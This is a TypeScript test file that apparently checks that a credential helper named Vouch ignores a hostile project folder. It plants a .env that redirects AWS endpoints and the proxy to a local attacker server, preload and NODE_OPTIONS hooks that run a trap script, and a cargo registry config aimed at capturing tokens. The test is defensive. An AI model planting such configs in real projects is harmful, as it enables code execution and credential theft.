/** The folder that a command is started in belongs to whoever wrote the project: nothing in it may change what Vouch does. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { cargoGet, executable, type Laptop, registryName, startLaptop } from "../../laptop.ts";
import { requires } from "../../requires.ts";
import { crateUserProject } from "../projects.ts";

let laptop: Laptop;
let folder: string;
let trap: string;
/** What the attacker has put into the folder. */
let planted: string[];
/** The attacker's server: it notes every request that reaches it. */
let attacker: Bun.Server<undefined>;
const reached: { path: string; authorization: string | null }[] = [];

beforeAll(async () => {
  laptop = await startLaptop();
  attacker = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch(request) {
      reached.push({ path: new URL(request.url).pathname, authorization: request.headers.get("authorization") });
      return new Response("{}", {
        status: 401,
        headers: { "www-authenticate": 'Cargo login_url="https://x.example/"' },
      });
    },
  });
  const evil = `http://127.0.0.1:${attacker.port}`;
  folder = join(laptop.home, "hostile");
  trap = join(laptop.folder, "trapped");
  const sprung = `require("node:fs").writeFileSync(${JSON.stringify(trap)}, "sprung");`;
  crateUserProject(folder, "my-crate", "evil");
  mkdirSync(join(folder, ".cargo"));
  mkdirSync(join(folder, "node_modules/valibot"), { recursive: true });
  const files: Record<string, string> = {
    ".env": `AWS_ENDPOINT_URL=${evil}\nAWS_ENDPOINT_URL_STS=${evil}\nHTTPS_PROXY=${evil}\nVOUCH_RUNTIME_DIR=${folder}\nNODE_OPTIONS=--require ./trap.cjs\n`,
    "bunfig.toml": 'preload = ["./trap.cjs"]\n[run]\npreload = ["./trap.cjs"]\n',
    "trap.cjs": sprung,
    "package.json": '{"name":"hostile","imports":{"#x":"./trap.cjs"},"main":"./trap.cjs"}',
    "tsconfig.json": '{"compilerOptions":{"paths":{"*":["./trap.cjs"]}}}',
    "node_modules/valibot/package.json": '{"name":"valibot","main":"index.cjs"}',
    "node_modules/valibot/index.cjs": sprung,
    ".cargo/config.toml": `[registries.evil]\nindex = "sparse+${evil}/cargo/my-repo/"\ncredential-provider = [${JSON.stringify(executable)}]\n`,
  };
  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
  planted = readdirSync(folder);
  // Everything from the first command on happens in that folder, the agent's start by `vouch login` included.
  laptop.cwd = folder;
  await laptop.enroll();
  await laptop.setUpAws();
  await laptop.setUpRepository("--registry-name", registryName);
  await laptop.login();
});
afterAll(async () => {
  await laptop?.stop();
  await attacker?.stop(true);
});

describe("in a folder with .env, bunfig.toml, package.json, node_modules and tsconfig.json of an attacker", () => {
  test("Cargo's provider answers as elsewhere", async () => {
    const { stdout } = await laptop.run([executable, "--cargo-plugin"], { cwd: folder, stdin: cargoGet() });
    expect(stdout).toContain("vouch-sandbox-token");
  });

  test("every role of vouch starts without touching the trap", async () => {
    for (const args of [
      ["--version"],
      ["status"],
      ["doctor"],
      ["exec", "--", "true"],
      ["agent", "status"],
      ["server", "--help"],
    ]) {
      await laptop.run([executable, ...args], { cwd: folder });
    }
    expect(existsSync(trap)).toBe(false);
    expect(reached).toEqual([]);
  });

  test.skipIf(!requires("cargo"))(
    "a .cargo/config.toml with a foreign index and our provider gets no token",
    async () => {
      const { exitCode, stderr } = await laptop.run(["cargo", "build"], { cwd: folder });
      expect(exitCode).not.toBe(0);
      expect(stderr).toMatch(/evil/);
      expect(reached.length).toBeGreaterThan(0);
      expect(reached.filter(({ authorization }) => authorization !== null)).toEqual([]);
    },
    120_000,
  );

  test("Vouch has written nothing: its settings and edits are in the home folder", () => {
    const cargosOwn = new Set(["Cargo.lock", "target"]);
    expect(readdirSync(folder).filter((name) => !cargosOwn.has(name))).toEqual(planted);
    expect(readdirSync(join(laptop.home, ".config/vouch")).toSorted()).toEqual(["config.json", "replaced-lines.json"]);
  });
});
